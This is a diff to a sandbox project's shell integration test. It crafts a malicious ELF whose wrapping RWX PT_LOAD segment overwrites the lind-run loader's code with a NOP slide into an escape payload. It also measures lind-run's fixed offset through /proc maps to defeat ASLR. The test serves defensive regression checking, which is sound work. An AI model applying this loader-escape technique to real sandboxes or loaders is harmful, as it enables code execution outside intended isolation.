@@ -310,33 +310,40 @@ done
 
 # lind-run's loader maps a program's segments before any filter exists.
 # A PT_LOAD whose p_vaddr + p_memsz wraps past 2^64 stays out of the span
-# the loader reserves, and its MAP_FIXED mapping may then land on lind-run
-# itself: the crafted file's bytes (a NOP slide into progs/escape_payload.S)
-# replace lind-run's code.  With ASLR that needs luck or a slide as wide
-# as the randomization; setarch -R takes the luck out: lind-run's mapping
-# is then known, and the segment covers exactly it.
+# the loader reserves, and its MAP_FIXED mapping may land anywhere, on
+# lind-run itself too; ASLR does not hide where: a position-independent
+# program's span is reserved right below lind-run, at a distance that is
+# the same every run.  The crafted file's bytes (a NOP slide into
+# progs/escape_payload.S) would then replace lind-run's code.
 loader_wrap() {
-	local ad=$T/loader fifo=$T/loader/fifo span run
+	local ad=$T/loader fifo=$T/loader/fifo run cage span
 	run=$(readlink -f "$LIND_RUN")
 	mkdir -p "$ad"
+	printf 'int main(void) { char c; return read(0, &c, 1) != 1; }\n' |
+		${CC:-cc} -static-pie -O1 -include unistd.h -x c -o "$ad/blocker" - &&
+		${CC:-cc} -c -o "$ad/payload.o" \
+			"$LIND_SRC/tests/integration/progs/escape_payload.S" &&
+		objcopy -O binary -j .text "$ad/payload.o" "$ad/payload.bin" ||
+		return 1
+	# where lind-run lies from the program's base, once the cage runs
 	mkfifo "$fifo"
-	setarch x86_64 -R "$LIND_RUN" "$T/bin/normal" readstdin <"$fifo" \
-		>/dev/null 2>&1 &
+	"$LIND_RUN" "$ad/blocker" <"$fifo" >/dev/null 2>&1 &
 	local pid=$!
 	exec 8>"$fifo"
-	wait_for 10 grep -q "$run" "/proc/$pid/maps" 2>/dev/null
-	span=$(awk -v f="$run" '$6 == f {split($1, a, "-");
-		if (!lo) lo = a[1]; hi = a[2]} END {print lo, hi}' "/proc/$pid/maps")
+	wait_for 10 eval 'read -r cage <"/proc/$pid/task/$pid/children" &&
+		grep -q "$ad/blocker" "/proc/$cage/maps"'
+	span=$(awk -v f="$run" -v p="$ad/blocker" '
+		$6 == p && !base {split($1, a, "-"); base = a[1]}
+		$6 == f {split($1, a, "-"); if (!lo) lo = a[1]; hi = a[2]}
+		END {print base, lo, hi}' "/proc/$cage/maps")
 	echo x >&8
 	exec 8>&-
 	wait $pid
-	${CC:-cc} -c -o "$ad/payload.o" "$LIND_SRC/tests/integration/progs/escape_payload.S" &&
-		objcopy -O binary -j .text "$ad/payload.o" "$ad/payload.bin" || return 1
-	python3 - "$T/bin/esc.main" "$ad/payload.bin" "$H/canary" $span \
+	python3 - "$ad/blocker" "$ad/payload.bin" "$H/canary" $span \
 		"$ad/wrap.elf" <<'PY' || return 1
 import struct, sys
-prog, payload, target, lo, hi, out = sys.argv[1:]
-lo, hi = int(lo, 16), int(hi, 16)
+prog, payload, target, base, lo, hi, out = sys.argv[1:]
+base, lo, hi = int(base, 16), int(lo, 16), int(hi, 16)
 b = bytearray(open(prog, "rb").read())
 pay = open(payload, "rb").read() + target.encode() + b"\0"
 size = hi - lo
@@ -344,25 +351,26 @@ slide = bytearray(b"\x90" * size)
 slide[size - len(pay) - 16:size - 16] = pay
 off = (len(b) + 0xfff) & ~0xfff
 b += bytes(off - len(b)) + slide
+vaddr = lo - base  # the program's own first vaddr is 0
 phoff, = struct.unpack_from("<Q", b, 0x20)
 phnum, = struct.unpack_from("<H", b, 0x38)
 for i in range(phnum):  # a PT_NOTE becomes the wrapping PT_LOAD (RWX)
     o = phoff + 56 * i
     if struct.unpack_from("<I", b, o)[0] == 4:
-        struct.pack_into("<IIQQQQQQ", b, o, 1, 7, off, lo, lo, size,
-                         (1 << 64) - lo + 0x1000, 0x1000)
+        struct.pack_into("<IIQQQQQQ", b, o, 1, 7, off, vaddr, vaddr, size,
+                         (1 << 64) - vaddr + 0x1000, 0x1000)
         break
 else:
     sys.exit("no PT_NOTE to turn into a PT_LOAD")
 open(out, "wb").write(b)
 PY
 	chmod +x "$ad/wrap.elf"
-	(exec setsid setarch x86_64 -R timeout -k 5 60 "$LIND_RUN" "$ad/wrap.elf" \
-		read "$H" 1 1 1 1 1 0) >"$T/out" 2>"$T/out.err" </dev/null
+	(exec setsid timeout -k 5 60 "$LIND_RUN" "$ad/wrap.elf") \
+		>"$T/out" 2>"$T/out.err" </dev/null
 	status=$?
 }
-if ! setarch x86_64 -R true 2>/dev/null || ! command -v objcopy >/dev/null; then
-	echo "# loader-wrap skipped: no setarch -R or no objcopy here"
+if ! command -v objcopy >/dev/null; then
+	echo "# loader-wrap skipped: no objcopy here"
 elif loader_wrap; then
 	host_effects
 	echo "# loader-wrap: $(results)"
